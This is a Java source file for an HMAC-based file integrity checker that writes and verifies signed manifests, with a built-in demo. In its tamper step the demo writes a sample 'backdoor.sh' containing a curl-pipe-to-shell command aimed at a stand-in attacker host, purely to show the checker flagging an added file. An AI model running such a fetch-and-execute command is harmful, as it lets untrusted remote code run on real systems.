package com.example.integrity;

import com.google.gson.Gson;
import com.google.gson.GsonBuilder;
import com.google.gson.JsonParseException;
import com.google.gson.reflect.TypeToken;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.AccessDeniedException;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.NoSuchFileException;
import java.nio.file.Path;
import java.nio.file.PathMatcher;
import java.nio.file.Paths;
import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.stream.Stream;

/**
 * HMAC File Integrity Checker: generates a manifest of per-file HMACs (plus a master HMAC over the
 * manifest itself) and verifies a directory against it, reporting unchanged, modified, missing and
 * added files.
 */
public final class IntegrityChecker {

    /** Algorithm name -> block size in bytes of the underlying hash (RFC 2104 needs it). */
    static final Map<String, Integer> ALGORITHMS = Map.of("SHA-256", 64, "SHA-384", 128, "SHA-512", 128, "SHA3-256", 136);

    private static final String GREEN = "\u001b[32m", RED = "\u001b[31m", YELLOW = "\u001b[33m", BLUE = "\u001b[34m", RESET = "\u001b[0m";
    private static final Gson GSON = new GsonBuilder().setPrettyPrinting().disableHtmlEscaping().create();
    /** Canonical, compact form used for the master HMAC. */
    private static final Gson CANONICAL = new GsonBuilder().disableHtmlEscaping().create();

    /** One manifest line. */
    static final class Entry {
        String hmac;
        long size;
        String modified;
        long mtimeMillis;
    }

    static final class Manifest {
        String algorithm;
        String root;
        String created;
        TreeMap<String, Entry> files = new TreeMap<>();
        String masterHmac;
    }

    enum Status {
        UNCHANGED(GREEN), MODIFIED(RED), MISSING(YELLOW), ADDED(BLUE);
        final String color;

        Status(String color) {
            this.color = color;
        }
    }

    static final class UsageException extends Exception {
        UsageException(String message) {
            super(message);
        }
    }

    private final byte[] key;
    private final String algorithm;
    private final List<PathMatcher> excludes = new ArrayList<>();

    IntegrityChecker(String key, String algorithm, String excludeList) throws UsageException {
        if (!ALGORITHMS.containsKey(algorithm)) {
            throw new UsageException("unsupported algorithm " + algorithm + " (choose from " + String.join(", ", new TreeMap<>(ALGORITHMS).keySet()) + ")");
        }
        this.key = key.getBytes(StandardCharsets.UTF_8);
        this.algorithm = algorithm;
        if (excludeList != null) {
            for (String pattern : excludeList.split(",")) {
                if (!pattern.isBlank()) {
                    excludes.add(FileSystems.getDefault().getPathMatcher("glob:" + pattern.trim()));
                }
            }
        }
    }

    /**
     * HMAC (RFC 2104) over java.security.MessageDigest: H((K ^ opad) || H((K ^ ipad) || message)).
     * Needs only java.security.MessageDigest (SHA-2 and SHA-3 are both in the default SUN provider).
     */
    static final class Hmac {
        private final MessageDigest inner;
        private final MessageDigest outer;

        Hmac(String algorithm, int blockSize, byte[] key) throws GeneralSecurityException {
            inner = MessageDigest.getInstance(algorithm);
            outer = MessageDigest.getInstance(algorithm);
            byte[] k = key.length > blockSize ? MessageDigest.getInstance(algorithm).digest(key) : key;
            byte[] ipad = new byte[blockSize];
            byte[] opad = new byte[blockSize];
            for (int i = 0; i < blockSize; i++) {
                byte b = i < k.length ? k[i] : 0;
                ipad[i] = (byte) (b ^ 0x36);
                opad[i] = (byte) (b ^ 0x5c);
            }
            inner.update(ipad);
            outer.update(opad);
        }

        void update(byte[] data, int offset, int length) {
            inner.update(data, offset, length);
        }

        byte[] doFinal(byte[] data) {
            inner.update(data);
            return doFinal();
        }

        byte[] doFinal() {
            return outer.digest(inner.digest());
        }
    }

    private Hmac newMac() throws GeneralSecurityException {
        return new Hmac(algorithm, ALGORITHMS.get(algorithm), key);
    }

    String fileHmac(Path file) throws IOException, GeneralSecurityException {
        Hmac mac = newMac();
        byte[] buffer = new byte[64 * 1024];
        try (InputStream in = Files.newInputStream(file)) {
            int n;
            while ((n = in.read(buffer)) > 0) {
                mac.update(buffer, 0, n);
            }
        }
        return HexFormat.of().formatHex(mac.doFinal());
    }

    String masterHmac(Manifest manifest) throws GeneralSecurityException {
        Map<String, Object> signed = new LinkedHashMap<>();
        signed.put("algorithm", manifest.algorithm);
        signed.put("files", manifest.files);
        return HexFormat.of().formatHex(newMac().doFinal(CANONICAL.toJson(signed).getBytes(StandardCharsets.UTF_8)));
    }

    /** Relative path (with '/') to file, for every regular file under root that is not excluded. */
    Map<String, Path> collect(Path root, Path manifestFile) throws IOException {
        Map<String, Path> files = new TreeMap<>();
        Path base = Files.isDirectory(root) ? root : root.toAbsolutePath().getParent();
        List<Path> candidates;
        if (Files.isDirectory(root)) {
            try (Stream<Path> walk = Files.walk(root)) {
                candidates = walk.filter(Files::isRegularFile).toList();
            }
        } else {
            candidates = List.of(root.toAbsolutePath());
        }
        Path skip = manifestFile.toAbsolutePath().normalize();
        for (Path file : candidates) {
            if (file.toAbsolutePath().normalize().equals(skip)) continue;
            Path relative = base.toAbsolutePath().relativize(file.toAbsolutePath());
            if (excludes.stream().anyMatch(m -> m.matches(relative) || m.matches(relative.getFileName()))) continue;
            files.put(relative.toString().replace('\\', '/'), file);
        }
        return files;
    }

    Manifest generate(Path root, Path output, boolean incremental) throws IOException, GeneralSecurityException {
        Manifest previous = incremental && Files.exists(output) ? readManifest(output) : null;
        Manifest manifest = new Manifest();
        manifest.algorithm = algorithm;
        manifest.root = root.toString();
        manifest.created = Instant.now().toString();
        int reused = 0;
        for (Map.Entry<String, Path> file : collect(root, output).entrySet()) {
            try {
                long mtime = Files.getLastModifiedTime(file.getValue()).toMillis();
                long size = Files.size(file.getValue());
                Entry old = previous != null && algorithm.equals(previous.algorithm) ? previous.files.get(file.getKey()) : null;
                Entry entry;
                if (old != null && old.mtimeMillis == mtime && old.size == size) {
                    entry = old;
                    reused++;
                } else {
                    entry = new Entry();
                    entry.hmac = fileHmac(file.getValue());
                    entry.size = size;
                    entry.mtimeMillis = mtime;
                    entry.modified = Instant.ofEpochMilli(mtime).toString();
                }
                manifest.files.put(file.getKey(), entry);
            } catch (AccessDeniedException e) {
                System.out.println(YELLOW + "  skipped (permission denied): " + file.getKey() + RESET);
            }
        }
        manifest.masterHmac = masterHmac(manifest);
        Files.writeString(output, GSON.toJson(manifest) + "\n", StandardCharsets.UTF_8);
        System.out.printf("Manifest (%s, %d file(s)%s) written to %s%n", algorithm, manifest.files.size(),
                incremental ? ", " + reused + " reused unchanged" : "", output);
        return manifest;
    }

    static Manifest readManifest(Path file) throws IOException {
        try {
            Manifest manifest = GSON.fromJson(Files.readString(file, StandardCharsets.UTF_8), new TypeToken<Manifest>() { }.getType());
            if (manifest == null || manifest.files == null || manifest.algorithm == null) {
                throw new IOException("manifest " + file + " is incomplete");
            }
            return manifest;
        } catch (JsonParseException e) {
            throw new IOException("manifest " + file + " is not valid JSON: " + e.getMessage());
        }
    }

    Map<Status, List<String>> verify(Path root, Path manifestFile) throws IOException, GeneralSecurityException, UsageException {
        Manifest manifest = readManifest(manifestFile);
        IntegrityChecker checker = manifest.algorithm.equals(algorithm) ? this : new IntegrityChecker(new String(key, StandardCharsets.UTF_8), manifest.algorithm, null);
        String expected = checker.masterHmac(manifest);
        if (manifest.masterHmac == null || !MessageDigest.isEqual(expected.getBytes(StandardCharsets.US_ASCII), manifest.masterHmac.getBytes(StandardCharsets.US_ASCII))) {
            throw new UsageException("master HMAC mismatch: the manifest was tampered with, or the key is wrong");
        }
        Map<String, Path> current = collect(root, manifestFile);
        Map<Status, List<String>> results = new LinkedHashMap<>();
        for (Status s : Status.values()) results.put(s, new ArrayList<>());
        for (Map.Entry<String, Entry> recorded : manifest.files.entrySet()) {
            Path file = current.get(recorded.getKey());
            if (file == null) {
                results.get(Status.MISSING).add(recorded.getKey());
                continue;
            }
            try {
                boolean same = MessageDigest.isEqual(checker.fileHmac(file).getBytes(StandardCharsets.US_ASCII),
                        recorded.getValue().hmac.getBytes(StandardCharsets.US_ASCII));
                results.get(same ? Status.UNCHANGED : Status.MODIFIED).add(recorded.getKey());
            } catch (AccessDeniedException e) {
                System.out.println(YELLOW + "  cannot read (permission denied): " + recorded.getKey() + RESET);
            }
        }
        for (String name : current.keySet()) {
            if (!manifest.files.containsKey(name)) results.get(Status.ADDED).add(name);
        }
        return results;
    }

    static void printSummary(Map<Status, List<String>> results) {
        System.out.println("\nVerification summary:");
        for (Map.Entry<Status, List<String>> group : results.entrySet()) {
            for (String name : group.getValue()) {
                System.out.printf("  %s%-9s%s %s%n", group.getKey().color, group.getKey(), RESET, name);
            }
        }
        StringBuilder counts = new StringBuilder();
        results.forEach((status, names) -> counts.append(status.color).append(names.size()).append(' ')
                .append(status.name().toLowerCase()).append(RESET).append("  "));
        System.out.println("  " + counts.toString().trim());
    }

    // ---------------------------------------------------------------- demo and command line

    static void demo() throws Exception {
        Path dir = Files.createTempDirectory("hmac-demo-");
        System.out.println("No arguments: running the demo in " + dir);
        Random random = new Random(42);
        Files.createDirectories(dir.resolve("docs"));
        Files.createDirectories(dir.resolve("src"));
        Files.createDirectories(dir.resolve("data"));
        Files.writeString(dir.resolve("README.md"), "# Demo site\nSample files for the integrity checker.\n");
        Files.writeString(dir.resolve("config.ini"), "[server]\nport = 8080\ndebug = false\n");
        Files.writeString(dir.resolve("docs/notes.txt"), "Release notes\n- first version\n");
        Files.writeString(dir.resolve("src/app.py"), "print('hello from the app')\n");
        byte[] blob = new byte[200_000];
        random.nextBytes(blob);
        Files.write(dir.resolve("data/blob.bin"), blob);
        Files.writeString(dir.resolve("server.log"), "this log file is excluded\n");

        Path manifestFile = dir.resolve("integrity_manifest.json");
        IntegrityChecker checker = new IntegrityChecker("demo-secret-key", "SHA-256", "*.log,*.tmp");
        System.out.println("\n[1] generate (algorithm SHA-256, --exclude \"*.log,*.tmp\")");
        checker.generate(dir, manifestFile, false);

        System.out.println("\n[2] incremental regenerate: nothing changed, every HMAC is reused");
        checker.generate(dir, manifestFile, true);

        System.out.println("\n[3] tamper: modify config.ini, delete docs/notes.txt, add backdoor.sh");
        Files.writeString(dir.resolve("config.ini"), "[server]\nport = 8080\ndebug = true\n");
        Files.delete(dir.resolve("docs/notes.txt"));
        Files.writeString(dir.resolve("backdoor.sh"), "#!/bin/sh\ncurl evil.example | sh\n");

        System.out.println("\n[4] verify");
        printSummary(checker.verify(dir, manifestFile));

        System.out.println("\n[5] verify with a hand-edited manifest (entry for config.ini replaced)");
        Manifest forged = readManifest(manifestFile);
        forged.files.get("config.ini").hmac = checker.fileHmac(dir.resolve("config.ini"));
        Path forgedFile = Files.createTempFile("forged-manifest-", ".json");
        Files.writeString(forgedFile, GSON.toJson(forged));
        try {
            checker.verify(dir, forgedFile);
        } catch (UsageException e) {
            System.out.println("  " + RED + "REJECTED" + RESET + " " + e.getMessage());
        }

        System.out.println("\n[6] SHA3-256 manifest of the same directory");
        new IntegrityChecker("demo-secret-key", "SHA3-256", "*.log,*.json").generate(dir, dir.resolve("manifest_sha3.json"), false);
    }

    public static void main(String[] args) {
        try {
            if (args.length == 0) {
                demo();
                return;
            }
            List<String> positional = new ArrayList<>();
            String algorithm = "SHA-256", exclude = null, output = "integrity_manifest.json", mode = null;
            boolean incremental = false;
            for (int i = 0; i < args.length; i++) {
                switch (args[i]) {
                    case "--algorithm" -> algorithm = value(args, ++i).toUpperCase();
                    case "--exclude" -> exclude = value(args, ++i);
                    case "--output" -> output = value(args, ++i);
                    case "--incremental" -> incremental = true;
                    case "--mode" -> mode = value(args, ++i);
                    default -> positional.add(args[i]);
                }
            }
            if (mode == null && positional.size() == 3) mode = positional.remove(2);
            if (mode == null || positional.size() != 2) {
                throw new UsageException("usage: <path> <key> [--mode] <generate|verify> [--algorithm SHA-256|SHA-384|SHA-512|SHA3-256] [--exclude globs] [--output manifest.json] [--incremental]");
            }
            Path root = Paths.get(positional.get(0));
            if (!Files.exists(root)) throw new UsageException("path not found: " + root);
            IntegrityChecker checker = new IntegrityChecker(positional.get(1), algorithm, exclude);
            switch (mode) {
                case "generate" -> checker.generate(root, Paths.get(output), incremental);
                case "verify" -> {
                    Map<Status, List<String>> results = checker.verify(root, Paths.get(output));
                    printSummary(results);
                    boolean clean = results.get(Status.MODIFIED).isEmpty() && results.get(Status.MISSING).isEmpty() && results.get(Status.ADDED).isEmpty();
                    if (!clean) System.exit(1);
                }
                default -> throw new UsageException("mode must be generate or verify, not " + mode);
            }
        } catch (UsageException e) {
            System.err.println("error: " + e.getMessage());
            System.exit(2);
        } catch (NoSuchFileException e) {
            System.err.println("error: file not found: " + e.getFile());
            System.exit(2);
        } catch (Exception e) {
            System.err.println("error: " + e);
            System.exit(2);
        }
    }

    private static String value(String[] args, int i) throws UsageException {
        if (i >= args.length) throw new UsageException("missing value after " + args[i - 1]);
        return args[i];
    }
}
